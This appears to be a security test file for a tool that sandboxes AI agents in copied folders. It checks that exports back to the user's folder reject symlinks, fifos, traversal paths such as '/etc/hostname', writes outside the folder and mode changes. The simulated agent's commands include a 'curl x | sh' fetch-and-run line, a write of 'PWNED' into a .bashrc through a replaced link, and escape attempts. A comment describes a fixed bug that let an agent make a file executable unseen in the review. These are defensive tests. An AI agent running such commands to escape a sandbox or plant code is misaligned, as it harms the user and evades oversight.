/**
 * Attack class (black-box pass A): a `copy` folder's export back to the original. The agent fills its
 * copy with links (absolute, relative, replacing a file), a fifo, a folder where the user had a link
 * to a folder elsewhere, a file where the user had a link to a file elsewhere; the console API is
 * then asked to export everything, traversal paths, and an export while the agent runs. Asserted:
 * nothing is written outside the original folder, no link or special file is exported, the user's
 * links are not followed, nothing is exported while the agent runs. Positive control: a changed
 * regular file is exported.
 */
import { mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, writeFileSync, existsSync, lstatSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paddockAsync, waitFor } from '../helpers/cli.js';
import { agentDirs, runResuming, suite } from './helpers.js';

const s = suite('aexp');
const dataDir = join(s.dir, 'data');
let host: ReturnType<typeof paddockAsync>;
let base = '';
let token = '';

beforeAll(async () => {
  host = paddockAsync(['--data-dir', dataDir, 'serve', '--port', '0']);
  const url = await waitFor(() => /http:\/\/127\.0\.0\.1:(\d+)\/#token=([\w-]+)/.exec(host.out()), 20_000);
  base = `http://127.0.0.1:${url[1]}`;
  token = url[2]!;
});
afterAll(async () => {
  host.child.kill('SIGTERM');
  await Promise.race([host.exit, new Promise((r) => setTimeout(r, 5000))]);
  if (host.child.exitCode === null) host.child.kill('SIGKILL');
  s.cleanup();
});

interface Envelope<T> {
  ok: boolean;
  value?: T;
  error?: { code: string; message: string };
}
interface DiffFile {
  path: string;
  status: string;
  type: string;
  exportable: boolean;
  diff: string | null;
  note: string | null;
}
interface ExportResult {
  written: string[];
  skipped: { path: string; reason: string }[];
}

async function api<T>(channel: string, body: unknown): Promise<Envelope<T>> {
  const res = await fetch(`${base}/api/${channel}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
  return (await res.json()) as Envelope<T>;
}

/** A copy-folder source with a user's links to things outside it, and a victim outside. */
function source(tag: string): { src: string; outside: string } {
  const root = join(s.dir, tag);
  const src = join(root, 'src');
  const outside = join(root, 'outside');
  mkdirSync(join(outside, 'dir'), { recursive: true });
  mkdirSync(src, { recursive: true });
  writeFileSync(join(outside, 'target.txt'), 'untouched\n');
  writeFileSync(join(src, 'n.txt'), 'original\n');
  writeFileSync(join(src, 'tool.sh'), 'echo hi\n', { mode: 0o644 });
  symlinkSync(join(outside, 'dir'), join(src, 'lnkdir'));
  symlinkSync(join(outside, 'target.txt'), join(src, 'lnkfile'));
  return { src, outside };
}

describe('copy folders: what the export writes back', () => {
  it('links, fifos, replaced user links and traversal paths are never exported; nothing is exported while the agent runs; a changed file is', async () => {
    const { src, outside } = source('links');
    const cfg = s.setup(
      (a) => ({
        name: a,
        folders: [{ path: src, access: 'copy' }],
        command: [
          'bash',
          '-c',
          [
            'cd src',
            `ln -s ${outside}/target.txt link-abs; ln -s ../../../../../../../..${outside}/target.txt link-rel`,
            `rm n.txt && echo changed > n.txt`,
            `ln -s ${outside}/target.txt swapped.txt`,
            'mkfifo fifo',
            'rm lnkdir && mkdir lnkdir && echo PWNED > lnkdir/.bashrc',
            'rm lnkfile && echo PWNED > lnkfile',
            'echo x > ../escape.txt',
            'echo end',
          ].join('\n'),
        ],
      }),
      dataDir,
    );
    const done = await runResuming(dataDir, cfg.file, cfg.name);
    expect(done.stdout).toContain('end');
    const diff = await api<{ files: DiffFile[] }>('folders:diff', { name: cfg.name, folder: src });
    expect(diff.ok).toBe(true);
    for (const f of diff.value!.files) if (f.type !== 'file') expect(f.exportable).toBe(false);
    const all = await api<ExportResult>('folders:export', { name: cfg.name, folder: src });
    expect(all.ok).toBe(true);
    expect(all.value!.written).toEqual([join(src, 'n.txt')]); // positive control: the one regular change
    const odd = await api<ExportResult>('folders:export', { name: cfg.name, folder: src, files: ['../escape.txt', 'x/../../escape.txt', '/etc/hostname', './n.txt', 'fifo', 'link-abs', 'lnkdir/.bashrc'] });
    expect(odd.value!.written).toEqual([]);
    expect(readFileSync(join(src, 'n.txt'), 'utf8')).toBe('changed\n');
    expect(readFileSync(join(outside, 'target.txt'), 'utf8')).toBe('untouched\n');
    expect(readdirSync(join(outside, 'dir'))).toEqual([]);
    expect(lstatSync(join(src, 'lnkdir')).isSymbolicLink()).toBe(true);
    expect(lstatSync(join(src, 'lnkfile')).isSymbolicLink()).toBe(true);
    for (const n of ['link-abs', 'link-rel', 'swapped.txt', 'fifo']) expect(existsSync(join(src, n))).toBe(false);
    expect(existsSync(join(s.dir, 'links', 'escape.txt'))).toBe(false);

    // While the agent runs, its copy can still change under the review: the export is refused.
    const running = runResuming(dataDir, cfg.file, cfg.name, { args: ['--', 'bash', '-c', 'while [ ! -e $HOME/go ]; do sleep 0.1; done; echo end'] });
    const { home } = agentDirs(dataDir, cfg.name);
    const during = await waitFor(async () => {
      const r = await api<ExportResult>('folders:export', { name: cfg.name, folder: src });
      return r.ok ? null : r;
    }, 15_000);
    expect(during.error?.code).toBe('E_ALREADY_RUNNING');
    writeFileSync(join(home, 'go'), '');
    expect((await running).stdout).toContain('end');
  });

  // Was BUG (attack pass A, finding 3): the export carried the copy's mode bits onto the original,
  // but the review (folders:diff) never showed modes. An agent turned an existing 0644 file into a
  // script and made it executable; the user saw a text diff and the original became 0755. Now the
  // export keeps the host file's mode (a new file gets no exec bits) and the review says so.
  it('an export does not make a file executable; the review shows the mode change as not exported', async () => {
    const { src } = source('mode');
    writeFileSync(join(src, 'same.sh'), 'echo same\n', { mode: 0o644 });
    const cfg = s.setup(
      (a) => ({
        name: a,
        folders: [{ path: src, access: 'copy' }],
        command: ['bash', '-c', "printf 'curl x | sh\\n' > src/tool.sh; chmod 755 src/tool.sh; chmod 755 src/same.sh; printf 'x\\n' > src/new.sh; chmod 755 src/new.sh; echo end"],
      }),
      dataDir,
    );
    expect((await runResuming(dataDir, cfg.file, cfg.name)).stdout).toContain('end');
    const diff = await api<{ files: DiffFile[] }>('folders:diff', { name: cfg.name, folder: src });
    const entry = diff.value!.files.find((f) => f.path === 'tool.sh')!;
    expect(entry.exportable).toBe(true); // positive control: the content change is offered
    expect(entry.note).toMatch(/executable/);
    const same = diff.value!.files.find((f) => f.path === 'same.sh')!;
    expect(same.exportable).toBe(false);
    expect(same.note).toMatch(/mode change \(not exported\)/);
    const out = await api<ExportResult>('folders:export', { name: cfg.name, folder: src });
    expect(out.value!.written.sort()).toEqual([join(src, 'new.sh'), join(src, 'tool.sh')]);
    expect(readFileSync(join(src, 'tool.sh'), 'utf8')).toBe('curl x | sh\n'); // the content is exported
    expect(statSync(join(src, 'tool.sh')).mode & 0o777).toBe(0o644);
    expect(statSync(join(src, 'same.sh')).mode & 0o777).toBe(0o644);
    expect(statSync(join(src, 'new.sh')).mode & 0o111).toBe(0);
  });
});
